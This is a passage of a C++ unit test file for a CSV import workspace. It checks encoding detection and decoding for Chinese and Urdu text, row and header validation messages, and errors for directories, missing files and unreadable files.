  CHECK(pk_record.Text("name_ur") == "پاک سافٹ ہاؤس");
  CHECK(pk_record.Text("city") == "لاہور");

  // UTF-8 named as GB18030 would garble every Chinese character: refused, saying so.
  auto wrong = w->ImportCsv(ImportKind::kEnterprises, "country,name\nCN,北京丙有限公司\n",
                            In(TextEncoding::kGb18030));
  REQUIRE_FALSE(wrong);
  CHECK(wrong.error().key == "text.already_utf8");
  // Bytes that are not GB18030 at all.
  auto broken = w->ImportCsv(ImportKind::kEnterprises, "country,name\nCN,\x81\x20\n",
                             In(TextEncoding::kGb18030));
  REQUIRE_FALSE(broken);
  CHECK(broken.error().key == "text.not_in_encoding");
}

TEST_CASE("A row with too few fields is named once by its line", "[core][csv]") {
  CsvWorkspace w;
  auto r = w->ImportEnterprisesCsv("country,name,city\nPK,Indus Data Systems\n");
  REQUIRE_FALSE(r);
  REQUIRE(r.error().details.size() == 1);
  CHECK(r.error().details[0].message == "line 2: has 2 fields but the header has 3");
}

TEST_CASE("Urdu from Windows-1256 reads with the Urdu yeh, so it is found as typed",
          "[core][csv][encoding]") {
  // کراچی as Excel on Urdu Windows saves it: ی (U+06CC) is not in code page 1256, and Windows
  // writes the Arabic yeh's byte 0xED for it.
  auto city = DecodeToUtf8("\x98\xD1\xC7\x8D\xED", TextEncoding::kWindows1256);
  REQUIRE(city);
  CHECK(*city == "کراچی");
}

TEST_CASE("The likely encoding of bytes that are not UTF-8 is guessed from their shape",
          "[core][csv][encoding]") {
  CHECK(GuessEncoding(kGb18030Csv) == TextEncoding::kGb18030);
  CHECK(GuessEncoding(kWindows1256Csv) == TextEncoding::kWindows1256);
  CHECK(GuessEncoding("\xE1\xC7\xC0\xE6\xD1") == TextEncoding::kWindows1256);  // لاہور, odd
  CHECK(GuessEncoding("\xFF") == TextEncoding::kWindows1256);  // ے: never in GB18030
  CHECK(ParseTextEncoding("utf8") == TextEncoding::kUtf8);
  CHECK(ParseTextEncoding("GBK") == TextEncoding::kGb18030);
  CHECK(ParseTextEncoding("cp1256") == TextEncoding::kWindows1256);
  CHECK_FALSE(ParseTextEncoding("latin1"));
  for (std::string_view name : kTextEncodings) {
    CHECK(TextEncodingName(*ParseTextEncoding(name)) == name);
  }
}

TEST_CASE("A directory is named as a directory, not read as an empty file",
          "[core][csv][native]") {
  CsvWorkspace w;
  TempDir tmp;
  auto r = w->ImportCsvFile(ImportKind::kEnterprises, tmp.path.string());
  REQUIRE_FALSE(r);
  CHECK(r.error().code == ErrorCode::kIo);
  CHECK(r.error().key == "file.is_directory");
  CHECK(r.error().message.find("is a directory") != std::string::npos);
  auto missing = w->ImportCsvFile(ImportKind::kEnterprises, (tmp.path / "none.csv").string());
  REQUIRE_FALSE(missing);
  CHECK(missing.error().key == "file.read_failed");
  if (::geteuid() != 0) {  // root reads everything
    std::filesystem::path locked = tmp.path / "locked.csv";
    std::ofstream(locked) << "country,name\n";
    std::filesystem::permissions(locked, std::filesystem::perms::none);
    auto unreadable = w->ImportCsvFile(ImportKind::kEnterprises, locked.string());
    REQUIRE_FALSE(unreadable);
    CHECK(unreadable.error().key == "file.not_readable");
  }
}

TEST_CASE("A bad header is named once for each problem", "[core][csv]") {
  CsvWorkspace w;
  // A misspelt column is one problem, not also a missing one.
  auto typo = w->ImportEnterprisesCsv("Country,Nme,city\nCN,x,y\n");
  REQUIRE_FALSE(typo);
  REQUIRE(typo.error().details.size() == 1);
  CHECK(typo.error().details[0].message ==
        "line 1: unknown column 'Nme' in the header; did you mean 'name'?");
  // Names as spreadsheets write them are the columns they say.
  REQUIRE(w->ImportEnterprisesCsv("Country,Name,Name EN,Short-Name\nCN,北京甲有限公司,Jia,甲\n"));
  // Another separator, another kind of file: said once.
  auto semicolons = w->ImportEnterprisesCsv("country;name;city\nCN;x;y\n");
  REQUIRE_FALSE(semicolons);
  REQUIRE(semicolons.error().details.size() == 1);
  CHECK(semicolons.error().details[0].message.find("separated by semicolons") !=
        std::string::npos);
  auto contacts = w->ImportEnterprisesCsv("enterprise_id,full_name,mobile\nx,y,z\n");
  REQUIRE_FALSE(contacts);
  REQUIRE(contacts.error().details.size() == 1);
  CHECK(contacts.error().details[0].message == "this is a file of contacts, not of enterprises");
  // Two problems are two lines.
  auto two = w->ImportEnterprisesCsv("country,city,turnover\nCN,x,5\n");
  REQUIRE_FALSE(two);
  CHECK(two.error().details.size() == 2);
}

}  // namespace dosti
